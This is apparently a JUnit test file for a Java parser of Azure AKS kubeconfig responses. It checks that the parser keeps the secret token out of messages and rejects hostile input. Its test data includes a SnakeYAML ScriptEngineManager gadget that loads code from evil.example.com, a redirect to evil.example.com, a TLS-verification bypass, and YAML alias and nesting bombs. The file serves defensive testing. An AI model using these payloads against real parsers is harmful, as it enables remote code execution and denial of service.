package org.ephemera.azure.aks;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.stream.Stream;
import org.ephemera.format.Json;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

/** Tests of kubeconfigs that Azure returns for a cluster, and of hostile ones. */
class AksKubeconfigTest {
    private static final String SECRET = "s3cr3t-t0k3n";
    private static final String CONFIG = """
            apiVersion: v1
            clusters:
            - cluster:
                certificate-authority-data: Y2E=
                server: https://prod-1a2b.hcp.westeurope.azmk8s.io:443
              name: prod
            - cluster:
                certificate-authority-data: b3RoZXI=
                server: https://other.example.com:443
              name: other
            contexts:
            - context:
                cluster: prod
                user: clusterUser_shop_prod
              name: prod
            current-context: prod
            kind: Config
            preferences: {}
            users:
            - name: somebody
              user: {token: not-this-one}
            - name: clusterUser_shop_prod
              user:
                client-certificate-data: Y2VydA==
                client-key-data: a2V5
                token: "%s"
            """.formatted(SECRET);

    @Test
    void parsesServerWithoutShowingSecret() throws IOException {
        AksKubeconfig config = AksKubeconfig.ofResponse(answer(CONFIG));
        assertThat(config.server()).isEqualTo(URI.create("https://prod-1a2b.hcp.westeurope.azmk8s.io:443"));
        assertThat(config.authority()).isEqualTo("Y2E=");
        assertThat(config.token()).contains(SECRET);
        assertThat(config.certificate()).isPresent();
        assertThat(config.toString() + config.certificate())
                .doesNotContain(SECRET)
                .doesNotContain("Y2V");
    }

    /** The kubeconfig of a cluster with Entra ID has a user with an exec plugin. */
    @Test
    void parsesUserWithExecPlugin() throws IOException {
        String exec = CONFIG.replaceFirst(
                "(?s)    client-certificate-data.*", "    exec: {command: kubelogin, args: [get-token]}\n");
        AksKubeconfig config = AksKubeconfig.ofResponse(answer(exec));
        assertThat(config.token()).isEmpty();
        assertThat(config.certificate()).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "https://prod-1a2b.hcp.westeurope.azmk8s.io:443 | http://prod-1a2b.hcp.westeurope.azmk8s.io",
                "https://prod-1a2b.hcp.westeurope.azmk8s.io:443 | https://user:word@evil.example.com",
                "https://prod-1a2b.hcp.westeurope.azmk8s.io:443 | https://a/?q=s3cr3t-t0k3n",
                "https://prod-1a2b.hcp.westeurope.azmk8s.io:443 | s3cr3t-t0k3n:",
                "Y2E=                                           | '*'",
                "certificate-authority-data: Y2E=               | insecure-skip-tls-verify: true",
                "cluster: prod                                  | cluster: gone",
                "kind: Config                                   | kind: Config\\nkind: Config",
                "kind: Config                                   | kind: Config\\n---\\nmore",
                "kind: Config                                   | kind: [Config",
                "kind: Config                                   | ? {a: s3cr3t-t0k3n}\\n: b",
                "preferences: {}                                | 'preferences: &a [x, x]\\nmore: [*a, *a]'",
                "preferences: {}                                | preferences: &anchored {}",
            })
    void rejectsInvalidKubeconfigWithoutQuoting(String said, String instead) throws IOException {
        String hostile = CONFIG.replace(said.strip(), instead.replace("\\n", "\n"));
        assertThat(hostile).isNotEqualTo(CONFIG);
        assertThatThrownBy(() -> AksKubeconfig.ofResponse(answer(hostile)))
                .isInstanceOf(IOException.class)
                .hasNoCause()
                .hasMessageNotContaining(SECRET)
                .hasMessageNotContaining("prod");
    }

    static Stream<Arguments> bombs() {
        return Stream.of(
                Arguments.of("deep lists", "[".repeat(100_000)),
                Arguments.of("deep mappings", "{a: ".repeat(50_000)),
                Arguments.of("deep blocks", deep()),
                Arguments.of("many", "- a\n".repeat(50_000)),
                Arguments.of("large", "a: " + "x".repeat(300 << 10)),
                Arguments.of("aliases", "a: &a [x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: [*c, *c]"),
                Arguments.of(
                        "tags", "!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example.com\"]]"),
                Arguments.of("nothing", ""),
                Arguments.of("a scalar", "text"),
                Arguments.of("no text", "\u0000\u0001"));
    }

    private static String deep() {
        StringBuilder yaml = new StringBuilder();
        for (int i = 0; i < 600; i++) {
            yaml.append(" ".repeat(i)).append("a:\n");
        }
        return yaml.toString();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("bombs")
    void rejectsHostileYaml(String what, String yaml) throws IOException {
        assertThatThrownBy(() -> AksKubeconfig.ofResponse(answer(yaml))).isInstanceOf(IOException.class);
    }

    @Test
    void rejectsResponseWithoutKubeconfig() {
        assertThatThrownBy(() -> AksKubeconfig.ofResponse(Json.object())).isInstanceOf(IOException.class);
        ObjectNode odd = Json.object();
        odd.putArray("kubeconfigs").addObject().put("value", "%%%");
        assertThatThrownBy(() -> AksKubeconfig.ofResponse(odd)).hasMessage("the kubeconfig is not base64");
    }

    private static ObjectNode answer(String yaml) {
        ObjectNode answer = Json.object();
        answer.putArray("kubeconfigs")
                .addObject()
                .put("name", "clusterUser")
                .put("value", Base64.getEncoder().encodeToString(yaml.getBytes(StandardCharsets.UTF_8)));
        return answer;
    }
}
